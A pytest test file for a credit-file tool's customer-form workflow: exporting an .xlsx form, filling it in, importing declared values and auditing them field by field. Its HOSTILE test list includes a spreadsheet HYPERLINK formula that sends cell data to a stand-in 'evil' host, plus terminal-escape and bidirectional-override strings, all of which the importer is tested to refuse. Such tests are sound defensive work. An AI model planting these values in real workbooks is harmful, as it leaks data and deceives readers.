"""A form's round trip as an office and a customer live it: export, fill in as a customer would
(openpyxl, the cells of the form), import, audit each way, and every step in the history."""

from __future__ import annotations

import json
import re
import subprocess
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
from cli_support import CJK, Run, no_english, no_traceback, under_terminal
from openpyxl import load_workbook
from rich.cells import cell_len

from creditfile.spreadsheets.customer_form import FORM_SHEET
from creditfile.store import Archive

ANSI = re.compile(r"\x1b\[[0-9;]*m")
COMPANY: dict[str, Any] = {
    "id": "C1",
    "name": "武汉宏达建设工程有限公司",
    "nature": "ordinary_company",
    "contact": {"phone": "02785551234", "person": "张三", "address": "武汉市江汉路1号"},
    "profile": {"founded_on": "2008-05-20", "registered_capital": 50000000},
    "business": {"construction_business": "学校"},
    "assessment": {"strength": 8, "note": "内部评估备注"},
}


@pytest.fixture
def archive(tmp_path: Path) -> Path:
    path = tmp_path / "archive.json"
    Archive.open(path, create=True).import_customers([COMPANY], actor="seed")
    return path


def fill(form: Path, answers: dict[str, Any], out: Path | None = None) -> Path:
    """Type answers into the form's cells by field key, as a customer in Excel would."""
    book = load_workbook(form)
    sheet = book[FORM_SHEET]
    rows = {row[3].value: row[1] for row in sheet.iter_rows(min_row=4) if row[3].value}
    for key, value in answers.items():
        rows[key].value = value
    target = out or form
    book.save(target)
    return target


def doc_of(archive: Path) -> dict[str, Any]:
    record = Archive.open(archive).get("C1")
    assert record is not None
    return record


def history(run: Run, kind: str) -> list[dict[str, Any]]:
    done = run("history", "C1", "--event", kind, "--json")
    assert done.returncode == 0, done.stderr
    return list(json.loads(done.stdout))


def test_export_fill_import_and_audit_each_way(archive: Path, run: Run) -> None:
    assert run("form", "C1", "--out", "c1.xlsx").returncode == 0
    form = fill(
        archive.parent / "c1.xlsx",
        {
            "profile.registered_capital": 80000000,  # overstated: to audit
            "profile.total_assets": "1.2亿",  # new, as people write it
            "contact.phone": "027-85551234",  # corrected
            "business.construction_business": "学校、医院",
            "form.by": "李会计",
            "form.on": datetime(2026, 11, 30),
        },
    )
    done = run("--actor", "王敏", "form", "import", str(form))
    assert done.returncode == 0, done.stderr
    assert "4 declared values" in done.stdout
    record = doc_of(archive)
    # The archive's own values are untouched: declared ones wait beside them.
    assert record["profile"]["registered_capital"] == 50000000
    assert record["contact"]["phone"] == "02785551234"
    [source] = record["sources"]
    assert source["kind"] == "customer_form" and source["verified"] is False
    assert (source["by"], source["on"]) == ("李会计", "2026-11-30")
    assert source["declared"] == {
        "profile.registered_capital": 80000000,
        "profile.total_assets": 120000000,
        "contact.phone": "027-85551234",
        "business.construction_business": "学校、医院",
    }
    # The same form imported again records nothing more.
    again = run("form", "import", str(form))
    assert again.returncode == 0 and "recorded already" in again.stdout
    assert len(doc_of(archive)["sources"]) == 1
    listed = run("--lang", "zh", "form", "audit", "C1").stdout
    assert re.search(r"\n注册资本\(元\) +#1 +50,000,000.00 +80,000,000.00\n", listed), listed
    assert "(资料表 #1, 由 李会计 于 2026-11-30 填写)" in listed

    steps = [
        ("profile.registered_capital", "reject"),
        ("总资产", "accept"),
        ("contact.phone", "set", "027-8555 1234"),
        ("construction_business", "accept"),
    ]
    for field, *decision in steps:
        step = run("--actor", "王敏", "form", "audit", "C1", field, *decision)
        assert step.returncode == 0, step.stderr
    record = doc_of(archive)
    assert record["profile"]["registered_capital"] == 50000000  # rejected
    assert record["profile"]["total_assets"] == 120000000  # accepted
    assert record["contact"]["phone"] == "027-8555 1234"  # corrected
    assert record["business"]["construction_business"] == "学校、医院"
    [source] = record["sources"]
    assert source["verified"] is True and "declared" not in source
    assert "the form is verified" in step.stdout

    audited = history(run, "form_audited")
    assert [
        (e["field"], e["decision"], e["declared"], e["decided"], e["actor"]) for e in audited
    ] == [
        ("profile.registered_capital", "reject", 80000000, 50000000, "王敏"),
        ("profile.total_assets", "accept", 120000000, 120000000, "王敏"),
        ("contact.phone", "set", "027-85551234", "027-8555 1234", "王敏"),
        ("business.construction_business", "accept", "学校、医院", "学校、医院", "王敏"),
    ]
    [imported] = history(run, "form_imported")
    assert imported["file"] == "c1.xlsx" and imported["actor"] == "王敏"
    assert len(history(run, "source_verified")) == 1
    shown = run("history", "C1").stdout
    assert "注册资本(元)" in shown or "Registered capital" in shown
    # Nothing more to audit.
    done = run("form", "audit", "C1", "name", "accept")
    assert done.returncode == 1 and "no declared value" in done.stderr


def test_a_form_that_matches_the_archive_is_verified_at_once(archive: Path, run: Run) -> None:
    assert run("form", "C1", "--out", "c1.xlsx").returncode == 0
    form = fill(archive.parent / "c1.xlsx", {"form.by": "张三"})
    done = run("form", "import", str(form))
    assert done.returncode == 0 and "every answer is as on file" in done.stdout
    [source] = doc_of(archive)["sources"]
    assert source["verified"] is True and "declared" not in source


HOSTILE = [
    ({"name": '=HYPERLINK("http://evil/?d="&A1,"x")'}, "B5", "formula"),
    # An 8-bit escape sequence (CSI): a workbook cannot hold ESC itself.
    ({"contact.person": "\x9b2J张"}, "B9", "U+009B"),
    ({"name": "宏达\u202e司公限有"}, "B5", "U+202E"),
    ({"business.construction_business": "x" * 5000}, "B14", "over the limit"),
    ({"profile.registered_capital": "很多"}, "B12", "注册资本"),
    ({"credit_code": "123"}, "B6", "统一社会信用代码"),
    ({"id": "C9"}, "B4", "no customer 'C9'"),
]


@pytest.mark.parametrize(("answers", "cell", "said"), HOSTILE, ids=lambda v: ascii(v)[:30])
def test_hostile_answers_are_refused_at_their_cell(
    archive: Path, run: Run, answers: dict[str, Any], cell: str, said: str
) -> None:
    assert run("form", "C1", "--out", "c1.xlsx").returncode == 0
    form = archive.parent / "c1.xlsx"
    book = load_workbook(form)
    sheet = book[FORM_SHEET]
    rows = {row[3].value: row[1] for row in sheet.iter_rows(min_row=4) if row[3].value}
    for key, value in answers.items():
        rows[key].value = value  # a string starting with = is stored as a formula
    book.save(form)
    before = archive.read_bytes()
    done = run("form", "import", str(form))
    assert done.returncode == 1 and no_traceback(done), done.stderr
    assert f"{FORM_SHEET}!{cell}" in done.stderr and said in done.stderr
    assert "\x9b" not in done.stderr and "\u202e" not in done.stderr
    assert archive.read_bytes() == before


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_a_declared_value_the_record_cannot_hold_is_told_in_the_language_asked(
    archive: Path, run: Run, lang: str
) -> None:
    assert run("form", "C1", "--out", "c1.xlsx").returncode == 0
    form = archive.parent / "c1.xlsx"
    book = load_workbook(form)
    rows = {row[3].value: row[1] for row in book[FORM_SHEET].iter_rows(min_row=4) if row[3].value}
    rows["credit_code"].value = "123"
    book.save(form)
    done = run("--lang", lang, "form", "import", str(form))
    assert done.returncode == 1 and no_traceback(done), done.stderr
    line = next(line for line in done.stderr.splitlines() if f"{FORM_SHEET}!B6" in line)
    # The cell is named by the form's own label (the form is in Chinese), the reason in the
    # language asked.
    reason = line.split("统一社会信用代码: ", 1)[1]
    if lang == "zh":
        assert CJK.search(reason), line
        no_english(reason)
    else:
        assert not CJK.search(reason) and "18" in reason, line


def test_a_workbook_of_another_layout_is_refused(archive: Path, run: Run) -> None:
    assert run("template", "--out", "t.xlsx").returncode == 0
    done = run("form", "import", "t.xlsx")
    assert done.returncode == 1 and "not a customer form" in done.stderr
    (archive.parent / "n.xlsx").write_text("not a workbook")
    done = run("form", "import", "n.xlsx")
    assert done.returncode == 1 and "not a readable .xlsx" in done.stderr and no_traceback(done)
    # A form whose hidden key column was edited names the row.
    assert run("form", "C1", "--out", "c1.xlsx").returncode == 0
    book = load_workbook(archive.parent / "c1.xlsx")
    book[FORM_SHEET]["D7"] = "assessment.strength"
    book.save(archive.parent / "c1.xlsx")
    done = run("form", "import", "c1.xlsx")
    assert done.returncode == 1 and f"{FORM_SHEET}!B7" in done.stderr
    assert "'assessment.strength'" in done.stderr


def test_a_blank_form_needs_an_id(archive: Path, run: Run) -> None:
    assert run("form", "--blank", "--out", "b.xlsx").returncode == 0
    form = fill(archive.parent / "b.xlsx", {"name": "某公司"})
    done = run("form", "import", str(form))
    assert done.returncode == 1 and "names no customer" in done.stderr
    fill(form, {"id": "C1"})
    done = run("form", "import", str(form))
    # Unsigned, it is not the customer's word: refused at the signature's cell.
    assert done.returncode == 1 and "does not say who filled it in" in done.stderr
    assert f"{FORM_SHEET}!B" in done.stderr
    fill(form, {"form.by": "李会计"})
    done = run("form", "import", str(form))
    assert done.returncode == 0 and "1 declared value" in done.stdout


def test_our_own_export_sent_back_unsigned_is_not_a_verified_form(archive: Path, run: Run) -> None:
    assert run("form", "C1", "--out", "mine.xlsx").returncode == 0
    done = run("form", "import", "mine.xlsx")
    assert done.returncode == 1 and "does not say who filled it in" in done.stderr
    assert "verified" not in done.stdout


def test_a_phone_typed_as_a_number_is_refused_at_its_cell(archive: Path, run: Run) -> None:
    assert run("form", "C1", "--out", "f.xlsx").returncode == 0
    form = fill(archive.parent / "f.xlsx", {"contact.phone": 2785551234, "form.by": "李会计"})
    done = run("form", "import", str(form))
    assert done.returncode == 1 and "loses a leading 0" in done.stderr
    assert f"{FORM_SHEET}!B" in done.stderr


def test_two_forms_answering_one_field_are_both_named_and_one_is_chosen(
    archive: Path, run: Run
) -> None:
    assert run("form", "C1", "--out", "a.xlsx").returncode == 0
    assert run("form", "C1", "--out", "b.xlsx").returncode == 0
    first = {"profile.registered_capital": 80000000, "form.by": "李会计"}
    fill(archive.parent / "a.xlsx", {**first, "form.on": datetime(2026, 10, 8)})
    second = {"profile.registered_capital": 90000000, "form.by": "赵出纳"}
    fill(archive.parent / "b.xlsx", {**second, "form.on": datetime(2026, 11, 30)})
    assert run("form", "import", "a.xlsx").returncode == 0
    assert run("form", "import", "b.xlsx").returncode == 0

    listed = run("--lang", "en", "form", "audit", "C1").stdout
    assert re.search(r"\nRegistered capital \(CNY\) +#2 +50,000,000.00 +90,000,000.00\n", listed)
    assert re.search(r"\nRegistered capital \(CNY\) +#1 +50,000,000.00 +80,000,000.00\n", listed)
    assert "(form #2 filled in by 赵出纳 on 2026-11-30)" in listed
    assert "(form #1 filled in by 李会计 on 2026-10-08)" in listed
    before = archive.read_bytes()
    done = run("form", "audit", "C1", "注册资本", "accept")
    # Both answers named with their form; nothing decided until one is chosen.
    assert done.returncode == 1 and no_traceback(done)
    assert "answered on 2 forms" in done.stderr
    assert "form #2, 2026-11-30, 赵出纳: 90,000,000.00" in done.stderr
    assert "form #1, 2026-10-08, 李会计: 80,000,000.00" in done.stderr
    assert "--source N" in done.stderr
    assert archive.read_bytes() == before
    wrong = run("form", "audit", "C1", "注册资本", "accept", "--source", "3")
    assert wrong.returncode == 1 and "source #3 declared no" in wrong.stderr
    assert archive.read_bytes() == before

    done = run("form", "audit", "C1", "注册资本", "accept", "--source", "1")
    assert done.returncode == 0, done.stderr
    record = doc_of(archive)
    assert record["profile"]["registered_capital"] == 80000000  # the first form's answer
    assert record["sources"][0]["verified"] is True
    assert record["sources"][1]["declared"] == {"profile.registered_capital": 90000000}
    # The one answer left is decided without naming its form.
    done = run("form", "audit", "C1", "registered_capital", "reject")
    assert done.returncode == 0, done.stderr
    assert doc_of(archive)["profile"]["registered_capital"] == 80000000
    audited = history(run, "form_audited")
    assert [(e["source_index"], e["decision"], e["declared"]) for e in audited] == [
        (0, "accept", 80000000),
        (1, "reject", 90000000),
    ]


def test_source_is_only_for_an_audit_decision(archive: Path, run: Run) -> None:
    done = run("form", "C1", "--out", "a.xlsx", "--source", "1")
    assert done.returncode == 2 and "--source" in done.stderr
    done = run("form", "audit", "C1", "name", "accept", "--source", "0")
    assert done.returncode == 2 and "#1 or more" in done.stderr


@pytest.mark.parametrize("written", ["2026年11月30日", "2026/11/30", "2026.11.30", " 2026-11-30 "])
def test_dates_written_as_people_write_them_are_read(archive: Path, run: Run, written: str) -> None:
    assert run("form", "C1", "--out", "c1.xlsx").returncode == 0
    answers = {"profile.founded_on": written, "form.by": "李会计", "form.on": written}
    fill(archive.parent / "c1.xlsx", answers)
    done = run("form", "import", "c1.xlsx")
    assert done.returncode == 0, done.stderr
    [source] = doc_of(archive)["sources"]
    assert source["on"] == "2026-11-30"
    assert source["declared"] == {"profile.founded_on": "2026-11-30"}


def test_every_bad_date_is_named_at_its_cell_together(archive: Path, run: Run) -> None:
    assert run("form", "C1", "--out", "c1.xlsx").returncode == 0
    form = archive.parent / "c1.xlsx"
    answers = {"profile.founded_on": "2008年13月5日", "form.by": "李会计", "form.on": "上周五"}
    fill(form, answers)
    rows = {
        row[3].value: row[1].coordinate
        for row in load_workbook(form)[FORM_SHEET].iter_rows(min_row=4)
        if row[3].value
    }
    before = archive.read_bytes()
    done = run("form", "import", "c1.xlsx")
    assert done.returncode == 1 and no_traceback(done), done.stderr
    founded = f"c1.xlsx:{FORM_SHEET}!{rows['profile.founded_on']}: 成立日期 '2008年13月5日'"
    filled = f"c1.xlsx:{FORM_SHEET}!{rows['form.on']}: 填表日期 '上周五'"
    lines = done.stderr.splitlines()
    assert any(line.startswith(f"creditfile: {founded} is not a date") for line in lines)
    assert any(line.startswith(f"creditfile: {filled} is not a date") for line in lines)
    assert "2026年11月30日" in done.stderr  # how to write one
    assert archive.read_bytes() == before


def test_the_history_of_a_form_reads_as_the_card_numbers_and_formats_it(
    archive: Path, run: Run
) -> None:
    assert run("form", "C1", "--out", "c1.xlsx").returncode == 0
    projects = "学校、医院\n2023年 武汉某小区 3万平米住宅楼工程总承包"
    answers = {
        "profile.registered_capital": 80000000,
        "business.construction_business": projects,
        "form.by": "李会计",
        "form.on": "2026年11月30日",
    }
    fill(archive.parent / "c1.xlsx", answers)
    assert run("form", "import", "c1.xlsx").returncode == 0
    for field in ("registered_capital", "construction_business"):
        assert run("form", "audit", "C1", field, "accept").returncode == 0
    english = run("history", "C1").stdout
    # The source as the card numbers it (资料来源 #1), not the stored 0-based index.
    assert "source #1 (customer form, 2026-11-30, 李会计) marked verified" in english
    assert "source_index" not in english
    # A declared amount as every view shows amounts (field labels in the language in force).
    every = run("--lang", "zh", "history", "C1").stdout
    assert "待审核申报值 · 注册资本: — → 80,000,000.00" in every
    assert "80,000,000.00" in english
    assert "80000000" not in english + every
    # A value of several lines: its first line and an ellipsis, never an escaped line break.
    assert "建筑业务: 学校 → 学校、医院…" in every
    assert "declared 学校、医院…, accepted: 学校、医院…" in english
    assert "\\n" not in english + every
    chinese = run("--lang", "zh", "history", "C1", "--event", "source_verified").stdout
    assert "资料来源 #1 (客户自填, 2026-11-30, 李会计) 已核实" in chinese


ADDRESS = (
    "湖北省武汉市汉阳区新华路80号锦辉大厦东塔17层1701-1705室"
    "(近地铁4号线王家湾站C出口, 收件请写明财务部李会计收)"
)
PROJECTS = (
    "以劳务分包为主, 配合总包单位施工; 2021年 武汉经开区某产业园二期厂房 劳务分包 合同额1,200万元\n"
    "2023年 汉阳区某安置房项目 主体结构劳务分包 合同额2,850万元, 已竣工验收"
)


def _long_answers(archive: Path, run: Run) -> subprocess.CompletedProcess[str]:
    assert run("form", "C1", "--out", "c1.xlsx").returncode == 0
    answers = {"contact.address": ADDRESS, "business.construction_business": PROJECTS}
    fill(archive.parent / "c1.xlsx", {**answers, "form.by": "李会计"})
    return run("--lang", "zh", "form", "import", "c1.xlsx")


def test_long_values_are_listed_whole_with_their_lines(archive: Path, run: Run) -> None:
    done = _long_answers(archive, run)
    assert done.returncode == 0, done.stderr
    listed = run("--lang", "zh", "form", "audit", "C1").stdout
    for shown in (done.stdout, listed):
        # Piped, the table is plain and complete: each value whole, each of its lines kept.
        assert re.search(rf"\n地址 +#1 +武汉市江汉路1号 +{re.escape(ADDRESS)}\n", shown), shown
        first, second = PROJECTS.split("\n")
        assert re.search(
            rf"\n建筑业务 +#1 +学校 +{re.escape(first)}\n +{re.escape(second)}\n", shown
        )
        assert "…" not in shown


@pytest.mark.parametrize("columns", [80, 120])
def test_on_a_terminal_long_values_fold_inside_their_cells(
    archive: Path, run: Run, columns: int
) -> None:
    assert _long_answers(archive, run).returncode == 0
    # A second form with the same answers: its import lists them as the audit does.
    fill(archive.parent / "c1.xlsx", {"form.by": "赵出纳"}, archive.parent / "c2.xlsx")
    for args in (["form", "audit", "C1"], ["form", "import", "c2.xlsx"]):
        shown = ANSI.sub(
            "", under_terminal(["--lang", "zh", *args], columns, archive, archive.parent)
        )
        lines = shown.splitlines()
        assert max(cell_len(line) for line in lines) <= columns, shown
        # Nothing lost inside a cell: the declared column, read down, holds both values.
        rule = next(i for i, line in enumerate(lines) if line.startswith("---"))
        start = cell_len(lines[rule].rsplit(" ", 1)[0]) + 1
        column = "".join(_cells_from(line, start).strip() for line in lines[rule + 1 :])
        for value in (ADDRESS, PROJECTS):
            assert value.replace(" ", "").replace("\n", "") in column.replace(" ", ""), shown


def _cells_from(line: str, start: int) -> str:
    """What ``line`` shows from terminal cell ``start`` on."""
    at, out = 0, []
    for char in line:
        if at >= start:
            out.append(char)
        at += cell_len(char)
    return "".join(out)


def test_forms_declaring_the_same_value_are_decided_by_one_decision(
    archive: Path, run: Run
) -> None:
    for name, by, on in (("a", "李会计", 10), ("b", "赵出纳", 20), ("c", "钱经理", 30)):
        assert run("form", "C1", "--out", f"{name}.xlsx").returncode == 0
        capital = 90000000 if name == "b" else 80000000
        answers = {"profile.registered_capital": capital, "form.by": by}
        fill(archive.parent / f"{name}.xlsx", {**answers, "form.on": datetime(2026, 11, on)})
    for name in ("a", "c"):
        assert run("form", "import", f"{name}.xlsx").returncode == 0
    # Two forms, one value: listed once, naming both forms, and decided without --source.
    listed = run("--lang", "en", "form", "audit", "C1").stdout
    assert listed.count("80,000,000.00") == 1, listed
    assert re.search(
        r"\nRegistered capital \(CNY\) +#2, #1 +50,000,000.00 +80,000,000.00\n", listed
    )
    assert "(form #2 filled in by 钱经理 on 2026-11-30)" in listed
    assert "(form #1 filled in by 李会计 on 2026-11-10)" in listed
    done = run("--actor", "王敏", "form", "audit", "C1", "注册资本", "accept")
    assert done.returncode == 0, done.stderr
    assert "(the same answer on forms #2, #1, decided together)" in done.stdout
    assert "the form is verified" in done.stdout
    record = doc_of(archive)
    assert record["profile"]["registered_capital"] == 80000000
    assert [s["verified"] for s in record["sources"]] == [True, True]
    audited = history(run, "form_audited")
    assert [(e["source_index"], e["decision"], e["source_indexes"]) for e in audited] == [
        (1, "accept", [1, 0]),
        (0, "accept", [1, 0]),
    ]
    assert len(history(run, "source_verified")) == 2
    shown = run("history", "C1", "--event", "form_audited").stdout
    assert shown.count("decided together") == 2


def test_a_different_value_still_asks_which_form_and_the_chosen_one_takes_its_equals(
    archive: Path, run: Run
) -> None:
    for name, on in (("a", 10), ("b", 20), ("c", 30)):
        assert run("form", "C1", "--out", f"{name}.xlsx").returncode == 0
        capital = 90000000 if name == "b" else 80000000
        answers = {"profile.registered_capital": capital, "form.by": "李会计"}
        fill(archive.parent / f"{name}.xlsx", {**answers, "form.on": datetime(2026, 11, on)})
        assert run("form", "import", f"{name}.xlsx").returncode == 0
    before = archive.read_bytes()
    done = run("form", "audit", "C1", "注册资本", "reject")
    assert done.returncode == 1 and "answered on 3 forms" in done.stderr
    assert "--source N" in done.stderr
    assert archive.read_bytes() == before
    done = run("form", "audit", "C1", "注册资本", "set", "8000万", "--source", "1")
    assert done.returncode == 0, done.stderr
    record = doc_of(archive)
    assert record["profile"]["registered_capital"] == 80000000
    # Forms #1 and #3 declared 80,000,000.00: both decided; #2's 90,000,000.00 still waits.
    assert [s["verified"] for s in record["sources"]] == [True, False, True]
    assert record["sources"][1]["declared"] == {"profile.registered_capital": 90000000}
    audited = history(run, "form_audited")
    assert sorted(e["source_index"] for e in audited) == [0, 2]


LONG_ADDRESS = "湖北省武汉市汉阳区新华路80号锦辉大厦东塔17层1701室; " + "; ".join(
    f"第{n}号仓库: 武汉市东西湖区走马岭街道汇通大道{n}号" for n in range(1, 30)
)


def test_a_long_address_on_two_of_three_forms_is_decided_once_and_kept_whole(
    archive: Path, run: Run
) -> None:
    assert run("form", "C1", "--out", "c1.xlsx").returncode == 0
    blank = archive.parent / "c1.xlsx"
    returned = [
        (datetime(2026, 9, 1), LONG_ADDRESS),
        (datetime(2026, 10, 15), "武汉市沿江大道188号"),
        (datetime(2026, 11, 30), LONG_ADDRESS),
    ]
    for n, (on, address) in enumerate(returned):
        answers = {"contact.address": address, "form.by": "李会计", "form.on": on}
        form = fill(blank, answers, archive.parent / f"returned-{n}.xlsx")
        done = run("form", "import", str(form))
        assert done.returncode == 0, done.stderr
    done = run("--actor", "王敏", "form", "audit", "C1", "address", "accept", "--source", "3")
    assert done.returncode == 0, done.stderr
    assert doc_of(archive)["contact"]["address"] == LONG_ADDRESS
    audited = history(run, "form_audited")
    assert [(e["source_index"], e["declared"], e["decided"]) for e in audited] == [
        (2, LONG_ADDRESS, LONG_ADDRESS),
        (0, LONG_ADDRESS, LONG_ADDRESS),
    ]
    # --json holds the change whole; the table cuts it to a line ending in …
    changed = [
        c
        for e in history(run, "customer_changed")
        for c in e.get("changes") or []
        if c["path"] == "contact.address"
    ]
    assert [(c["old"], c["new"]) for c in changed] == [("武汉市江汉路1号", LONG_ADDRESS)]
    table = ANSI.sub("", under_terminal(["history", "C1"], 120, archive))
    assert "武汉市江汉路1号 → 湖北省武汉市" in table and LONG_ADDRESS not in table
    assert "…" in table
